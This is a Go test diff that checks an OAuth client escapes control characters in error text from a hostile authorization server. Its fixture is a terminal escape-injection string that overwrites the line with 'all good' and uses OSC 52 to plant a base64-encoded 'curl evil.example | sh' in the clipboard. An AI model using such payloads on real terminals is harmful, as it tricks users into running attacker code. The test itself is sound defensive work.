@@ -364,3 +364,51 @@ func TestLoopbackTakesOnlyItsState(t *testing.T) {
 		t.Errorf("a second response for a finished flow: %d", code)
 	}
 }
+
+// What a hostile authorization server answers goes into the client's errors, which mcpgen
+// prints on the user's terminal: its control characters arrive escaped, as text, so that
+// no escape sequence rewrites what the terminal shows or sets the clipboard (OSC 52).
+func TestServerTextInErrorsIsEscaped(t *testing.T) {
+	const evil = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2K\rall good"
+	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusBadRequest)
+		if r.URL.Path == "/token" {
+			json.NewEncoder(w).Encode(map[string]string{"error": "invalid_grant", "error_description": evil})
+			return
+		}
+		w.Write([]byte(evil))
+	}))
+	defer hostile.Close()
+	for name, tc := range map[string]struct {
+		meta      map[string]any
+		authorize func(w *world) func(context.Context, string) (*url.URL, error)
+	}{
+		"a registration endpoint's body": {meta: map[string]any{"registration_endpoint": hostile.URL + "/register"}},
+		"a token endpoint's error":       {meta: map[string]any{"token_endpoint": hostile.URL + "/token"}},
+		"a token endpoint's body":        {meta: map[string]any{"token_endpoint": hostile.URL + "/other"}},
+		"an authorization response's error": {authorize: func(w *world) func(context.Context, string) (*url.URL, error) {
+			return func(context.Context, string) (*url.URL, error) {
+				return url.Parse("http://127.0.0.1:9/callback?" + url.Values{"iss": {w.srv.URL + "/as"}, "error": {"access_denied"}, "error_description": {evil}}.Encode())
+			}
+		}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			w := newWorld(t)
+			w.asMeta = tc.meta
+			c, rt := w.client()
+			if tc.authorize != nil {
+				rt.Config.Authorize = tc.authorize(w)
+			}
+			_, err := post(t, c, w.srv.URL+"/mcp")
+			if err == nil {
+				t.Fatal("no error")
+			}
+			if strings.ContainsAny(err.Error(), "\x1b\x07\r") {
+				t.Errorf("the error carries the server's control characters: %q", err.Error())
+			}
+			if !strings.Contains(err.Error(), `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b[2K\rall good`) {
+				t.Errorf("the error does not show what the server said, escaped: %q", err.Error())
+			}
+		})
+	}
+}
